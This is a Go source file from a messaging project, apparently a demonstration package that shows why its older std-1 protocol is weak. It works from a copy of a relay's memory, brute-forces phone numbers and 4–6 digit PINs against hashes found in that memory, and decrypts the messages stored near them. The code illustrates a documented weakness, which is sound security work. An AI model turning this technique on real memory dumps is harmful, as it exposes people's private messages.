// Package dumpattack is an attacker who has a copy of a relay's memory and
// nothing else. It shows what SECURITY.md says of the two protocols: a room of
// std-1 follows from a telephone number, which can be guessed, and one of
// sotto-2 from a code, which can't. The relay must not import it.
package dumpattack

import (
	"bytes"
	"crypto/sha256"
	"encoding/binary"
	"fmt"
	"math"
	"slices"

	"sotto/client"
	"sotto/wire"
)

// Region is memory that lay at an address.
type Region struct {
	Address uint64
	Bytes   []byte
}

// Dump is a copy of a process's memory.
type Dump []Region

// find returns which of these hashes are in the dump, wherever they stand, by what
// each is of. It reads the dump once.
func (d Dump) find(hashes map[[32]byte]string) (found []string) {
	// Few places begin as a hash does, and a small key is looked up fast.
	begins := make(map[uint64]bool, len(hashes))
	for hash := range hashes {
		begins[word(hash[:], 0)] = true
	}
	for _, r := range d {
		for i := 0; i+32 <= len(r.Bytes); i++ {
			if begins[word(r.Bytes, i)] {
				if of, is := hashes[[32]byte(r.Bytes[i:])]; is && !slices.Contains(found, of) {
					found = append(found, of)
				}
			}
		}
	}
	return found
}

// Has reports whether the hash is in the dump.
func (d Dump) Has(hash [32]byte) bool { return d.find(map[[32]byte]string{hash: ""}) != nil }

// at returns the size bytes from an address on, or nil.
func (d Dump) at(address, size uint64) []byte {
	for _, r := range d {
		if from := address - r.Address; address >= r.Address && from < uint64(len(r.Bytes)) && size <= uint64(len(r.Bytes))-from {
			return r.Bytes[from : from+size]
		}
	}
	return nil
}

// Plan is the numbers that a country gives out: a prefix with the country's code,
// digits only, followed by so many digits of any kind.
type Plan struct {
	Prefix string
	Digits int
}

// all yields them.
func (p Plan) all(yield func(number string) bool) {
	for i := range int(math.Pow10(p.Digits)) {
		if !yield(fmt.Sprintf("%s%0*d", p.Prefix, p.Digits, i)) {
			return
		}
	}
}

// Room is a room of std-1 that was opened.
type Room struct {
	Number string
	PINs   []string
	Texts  []string
}

// OpenStd1 tries every number of the plan and, where there is a room, every PIN of
// 4 to 6 digits.
func (d Dump) OpenStd1(plan Plan) (rooms []Room) {
	hashes := make(map[[32]byte]string)
	for number := range plan.all {
		hashes[[32]byte(std1(number, "0").Room())] = number
	}
	for _, number := range d.find(hashes) {
		rooms = append(rooms, d.openRoom(number))
	}
	return rooms
}

// openRoom looks for the seats of a room, and for messages where their hashes are.
func (d Dump) openRoom(number string) Room {
	opened := Room{Number: number}
	hashes := make(map[[32]byte]string)
	for digits := 4; digits <= 6; digits++ {
		for pin := range (Plan{Digits: digits}).all {
			access := std1(number, pin).Access()
			hashes[sha256.Sum256(access[:])] = pin
		}
	}
	opened.PINs = d.find(hashes)
	for _, pin := range opened.PINs {
		id := std1(number, pin)
		for _, text := range d.messages([32]byte(id.Sender()), id.Key()) {
			if !slices.Contains(opened.Texts, text) {
				opened.Texts = append(opened.Texts, text)
			}
		}
	}
	return opened
}

// std1 derives what std-1 makes of a number and a PIN.
func std1(number, pin string) client.Identity {
	id, err := client.Derive(number, pin)
	if err != nil {
		panic("dumpattack: " + err.Error()) // refuses what is empty only
	}
	return id
}

// messages opens what is pointed to from near the hash of an author, by
// whatever stands near it too and may be the iv: nothing need be known of how the
// relay lays out a message.
func (d Dump) messages(sender [32]byte, key *client.Key) (texts []string) {
	const near = 192
	for _, r := range d {
		for from := 0; ; {
			at := bytes.Index(r.Bytes[from:], sender[:])
			if at < 0 {
				break
			}
			at += from
			from = at + 1
			around := r.Bytes[max(0, at-near)&^7 : min(len(r.Bytes), at+near)]
			for i := 0; i+24 <= len(around); i += 8 { // a slice: address, length, capacity
				address, size, space := word(around, i), word(around, i+8), word(around, i+16)
				if size > space || space > 1<<20 {
					continue
				}
				ciphertext := d.at(address, size)
				for j := 0; ciphertext != nil && j+wire.IVSize <= len(around); j++ {
					if text, err := key.Open(client.Sealed{IV: [wire.IVSize]byte(around[j:]), Ciphertext: ciphertext}); err == nil {
						texts = append(texts, string(text))
					}
				}
			}
		}
	}
	return texts
}

func word(b []byte, i int) uint64 { return binary.LittleEndian.Uint64(b[i:]) }
